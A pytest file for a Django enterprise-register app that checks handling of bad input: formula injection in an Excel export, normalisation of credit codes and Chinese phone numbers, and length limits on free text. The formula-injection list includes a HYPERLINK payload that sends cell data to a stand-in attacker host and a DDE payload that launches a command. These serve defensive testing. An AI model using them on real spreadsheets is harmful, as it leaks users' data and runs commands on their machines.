"""Issue 6 §6 for the enterprise register: each kind of bad input is sent through the service
and the API, and gets a clear 4xx naming the field while nothing is written — formula injection in
the Excel export, full-width credit codes and dashed phone numbers (normalised, not refused),
over-long free text. (Documents, conflicts and reviews: intake/tests/test_bad_input_intake.py.)"""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from parkflow.core.errors import ValidationFailed
from parkflow.core.models import AuditEvent
from parkflow.enterprises import services
from parkflow.enterprises.tests.factories import EnterpriseFactory, enterprise_values
from parkflow.org.choices import Role
from parkflow.org.tests.clients import client_for
from parkflow.org.tests.factories import staff

API = "/api/v1"


# --- Excel export: formula injection ---------------------------------------------------------

FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A2,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def test_the_excel_export_writes_formula_like_text_as_plain_text(client, park, clerk):
    for index, name in enumerate(FORMULA_NAMES):
        EnterpriseFactory(park=park, name=name, contact_name="=1+1", address=f"@地址{index}")
    client.force_login(clerk)
    response = client.get(reverse("enterprises:export"))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    names = {sheet.cell(row=r, column=1).value for r in range(2, sheet.max_row + 1)}
    # The value reads as entered, only inert (openpyxl reads a carriage return back as a
    # newline without lxml, as itself with it).
    assert {n.replace("\r", "\n") for n in names} == {
        name.replace("\r", "\n") for name in FORMULA_NAMES
    }
    first = sheet.cell(row=2, column=1)
    assert first.data_type == "s" and first.quotePrefix
    # Ordinary cells are untouched: numbers stay numbers, names without a trigger plain.
    assert isinstance(sheet.cell(row=2, column=8).value, int | float)


def test_every_workbook_in_the_code_is_written_through_the_safe_writer():
    """A new export that calls ``sheet.append`` directly would reopen formula injection."""
    from pathlib import Path

    import parkflow

    root = Path(parkflow.__file__).parent
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "tests" not in path.parts
        and path.name != "xlsx.py"
        # A module that makes a workbook (a reader such as the bank-statement import only
        # loads one).
        and "Workbook(" in (text := path.read_text(encoding="utf-8"))
        and (".append(" in text and "append_row" not in text)
    ]
    assert offenders == []


# --- credit codes and phone numbers: normalised, not refused ---------------------------------


def _full_width(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


@pytest.mark.parametrize(
    "spelling",
    [
        lambda code: _full_width(code),
        lambda code: _full_width(code).lower(),
        lambda code: f"{code[:6]} {code[6:12]} {code[12:]}",
        lambda code: f"{code[:2]}-{code[2:8]}-{code[8:]}",
        lambda code: f" {_full_width(code[:9])}－{code[9:].lower()} ",
    ],
    ids=["full-width", "full-width-lower", "spaced", "dashed", "mixed"],
)
def test_a_full_width_or_spaced_credit_code_is_stored_in_its_canonical_form(park, clerk, spelling):
    from parkflow.enterprises.tests.factories import make_credit_code

    code = make_credit_code(7)
    enterprise = services.enterprise_create(
        actor=clerk, park=park, **enterprise_values(credit_code=spelling(code))
    )
    assert enterprise.credit_code == code


def test_a_full_width_credit_code_through_the_api_and_the_page(client, park, clerk):
    from parkflow.enterprises.models import Enterprise
    from parkflow.enterprises.tests.factories import make_credit_code

    api_code, page_code = make_credit_code(8), make_credit_code(9)
    response = client_for(clerk).post(
        f"{API}/enterprises/",
        {
            "park": park.pk,
            **enterprise_values(credit_code=_full_width(api_code), name="苏州甲公司"),
        },
        format="json",
    )
    assert response.status_code == 201, response.json()
    assert response.json()["credit_code"] == api_code
    client.force_login(clerk)
    response = client.post(
        reverse("enterprises:create"),
        {
            "park": park.pk,
            **enterprise_values(
                credit_code=f"{_full_width(page_code[:9])} {page_code[9:]}", name="苏州乙公司"
            ),
            "grade": "b",
        },
    )
    assert response.status_code == 302, response.context["form"].errors
    assert Enterprise.objects.filter(credit_code=page_code).exists()


def test_a_wrong_credit_code_is_still_refused_naming_the_field(park, clerk):
    from parkflow.enterprises.models import Enterprise

    before = (Enterprise.objects.count(), AuditEvent.objects.count())
    response = client_for(clerk).post(
        f"{API}/enterprises/",
        {"park": park.pk, **enterprise_values(credit_code="９１３２０５０５ＭＡ１Ｋ４ＸＸＸＸ")},
        format="json",
    )
    assert response.status_code == 400
    assert response.json()["field"] == "credit_code"
    assert (Enterprise.objects.count(), AuditEvent.objects.count()) == before


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        ("13800138000", "13800138000"),
        ("138-0013-8000", "13800138000"),
        ("138 0013 8000", "13800138000"),
        ("+86 138 0013 8000", "13800138000"),
        ("0086-13800138000", "13800138000"),
        ("１３８００１３８０００", "13800138000"),
        ("0512-6688 1234", "0512-66881234"),
        ("０５１２－６６８８１２３４", "0512-66881234"),
        ("(0512) 6688-1234", "0512-66881234"),
        ("051266881234", "0512-66881234"),
        ("021-12345678", "021-12345678"),
        ("+86 21 1234 5678", "021-12345678"),
        ("010-88886666-123", "010-88886666-123"),
        ("0512-66881234转806", "0512-66881234-806"),
    ],
)
def test_phone_numbers_are_normalised_to_one_canonical_form(typed, stored):
    from parkflow.core.normalise import normalise_phone

    assert normalise_phone(typed) == stored


@pytest.mark.parametrize(
    "typed", ["12345", "138-0013-800", "电话", "+1 415 555 0100", "1380013800a", "0512-123"]
)
def test_garbage_phone_numbers_are_refused_naming_the_field(park, clerk, typed):
    from parkflow.enterprises.models import Enterprise

    before = (Enterprise.objects.count(), AuditEvent.objects.count())
    response = client_for(clerk).post(
        f"{API}/enterprises/",
        {"park": park.pk, **enterprise_values(contact_phone=typed)},
        format="json",
    )
    assert response.status_code == 400
    body = response.json()
    assert body["field"] == "contact_phone"
    assert "有效的手机号或固定电话" in body["errors"]["contact_phone"][0]
    assert (Enterprise.objects.count(), AuditEvent.objects.count()) == before


def test_dashed_phones_are_accepted_for_enterprises_and_emergency_contacts(park, clerk):
    from parkflow.org.models import EmergencyContact

    response = client_for(clerk).post(
        f"{API}/enterprises/",
        {"park": park.pk, **enterprise_values(contact_phone="0512-6688 1234")},
        format="json",
    )
    assert response.status_code == 201, response.json()
    assert response.json()["contact_phone"] == "0512-66881234"
    office = staff(Role.OFFICE_STAFF, park)
    response = client_for(office).post(
        f"{API}/org/emergency-contacts/",
        {"unit": park.pk, "name": "王五", "phone": "+86 138-0013-8000"},
        format="json",
    )
    assert response.status_code == 201, response.json()
    assert EmergencyContact.objects.get().phone == "13800138000"


# --- free text has a declared maximum --------------------------------------------------------

MEGABYTE = "长" * 1_000_000


def test_a_one_megabyte_reason_is_refused_by_the_audit_chain_and_nothing_is_written(
    park, clerk, enterprise
):
    from parkflow.enterprises.models import Enterprise

    before = AuditEvent.objects.count()
    with pytest.raises(ValidationFailed) as exc:
        services.enterprise_update(
            actor=clerk, enterprise=enterprise, reason=MEGABYTE, contact_name="新联系人"
        )
    assert "2000" in exc.value.errors["reason"][0]
    assert AuditEvent.objects.count() == before
    assert Enterprise.objects.get(pk=enterprise.pk).contact_name == "李四"


def test_a_one_megabyte_reason_through_the_api_is_400_naming_the_field(park, clerk, enterprise):
    from parkflow.enterprises.models import Enterprise

    before = AuditEvent.objects.count()
    client = client_for(clerk)
    for path, body in [
        (f"{API}/enterprises/{enterprise.pk}/apply/", {"reason": MEGABYTE}),
        (f"{API}/enterprises/{enterprise.pk}/", {"contact_name": "新", "reason": MEGABYTE}),
        (f"{API}/enterprises/{enterprise.pk}/declare-conflict/", {"reason": MEGABYTE}),
    ]:
        method = client.patch if path.endswith(f"{enterprise.pk}/") else client.post
        response = method(path, body, format="json")
        assert response.status_code in (400, 413), (path, response.status_code)
        if response.status_code == 400:
            assert response.json()["field"] == "reason", response.json()
    assert AuditEvent.objects.count() == before
    stored = Enterprise.objects.get(pk=enterprise.pk)
    assert (stored.status, stored.contact_name) == (enterprise.status, "李四")


def test_a_reason_over_the_limit_but_under_the_body_limit_is_400_naming_the_field(
    park, clerk, enterprise
):
    response = client_for(clerk).post(
        f"{API}/enterprises/{enterprise.pk}/apply/", {"reason": "长" * 2001}, format="json"
    )
    assert response.status_code == 400
    assert response.json()["field"] == "reason"
    assert not AuditEvent.objects.filter(action__startswith="enterprise.apply").exists()


def test_a_long_reason_on_the_page_is_an_error_and_the_step_is_not_taken(
    client, park, clerk, enterprise
):
    client.force_login(clerk)
    before = AuditEvent.objects.count()
    response = client.post(
        reverse("enterprises:transition", args=[enterprise.pk, "apply"]),
        {"reason": "长" * 5000},
    )
    assert response.status_code == 400
    assert "500" in response.content.decode()
    assert AuditEvent.objects.count() == before
    enterprise.refresh_from_db()
    assert enterprise.status == "prospect"
